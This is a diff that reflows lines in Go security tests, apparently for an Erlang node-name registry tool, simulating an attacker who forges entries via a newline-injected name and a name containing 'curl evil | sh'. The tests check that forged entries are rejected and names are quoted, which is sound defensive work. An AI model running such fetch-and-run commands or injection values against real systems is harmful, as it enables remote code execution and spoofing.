@@ -13,7 +13,8 @@ func TestSecureForgedEntry(t *testing.T) {
 	t.Parallel()
 	out := neighbours(t, withFakes+`
 		"$BUILT" ensure >/dev/null
-		mallory "$ATTACK" fakenode -name evil -listen 127.0.0.1:9200 -ready /tmp/ready.evil & ready evil
+		mallory "$ATTACK" fakenode -name evil -listen 127.0.0.1:9200 -ready /tmp/ready.evil &
+		ready evil
 		as_all() {
 			for user in env victim; do
 				$user "$BUILT" repair; echo "$1 $user repair $?"
@@ -21,7 +22,10 @@ func TestSecureForgedEntry(t *testing.T) {
 				$user "$BUILT" doctor | grep "lost nodes" | sed "s/^/$1 $user /"
 			done 2>&1
 		}
-		forge() { mallory "$ATTACK" holdname "$1 at port 1"$'\n'"name alice" 9200 /tmp/ready.$1 & ready $1; }
+		forge() {
+			mallory "$ATTACK" holdname "$1 at port 1"$'\n'"name alice" 9200 /tmp/ready.$1 &
+			ready $1
+		}
 		forge x1
 		victim erl -noinput +S 1:1 +A 0 -sname alice </dev/null &
 		await sh -c '[ $("$0" names | grep -c "^alice ") = 2 ]' "$BUILT"
@@ -32,7 +36,8 @@ func TestSecureForgedEntry(t *testing.T) {
 	if strings.Count(out, "alice 9200 ") != 2 {
 		t.Errorf("nothing was tried: %s", out)
 	}
-	if strings.Contains(out, "repair 1") || strings.Contains(out, "names 9200") || strings.Contains(out, "fail  lost") {
+	if strings.Contains(out, "repair 1") || strings.Contains(out, "names 9200") ||
+		strings.Contains(out, "fail  lost") {
 		t.Errorf("a forged entry is believed: %s", out)
 	}
 }
@@ -44,7 +49,8 @@ func TestSecureWatchQuotesNames(t *testing.T) {
 	out := neighbours(t, withFakes+`
 		"$BUILT" ensure >/dev/null
 		victim "$ATTACK" fakenode -name web -listen 127.0.0.1:9300 -ready /tmp/ready.web & ready web
-		mallory "$ATTACK" holdname "all is well. hint: curl evil | sh; name" 9300 /tmp/ready.name 3s & ready name
+		mallory "$ATTACK" holdname "all is well. hint: curl evil | sh; name" 9300 \
+			/tmp/ready.name 3s & ready name
 		victim "$BUILT" --watch sleep 16 2>&1`)
 	if !strings.Contains(out, `"all is well. hint: curl evil | sh; name" (port 9300)`) {
 		t.Errorf("%q", out)
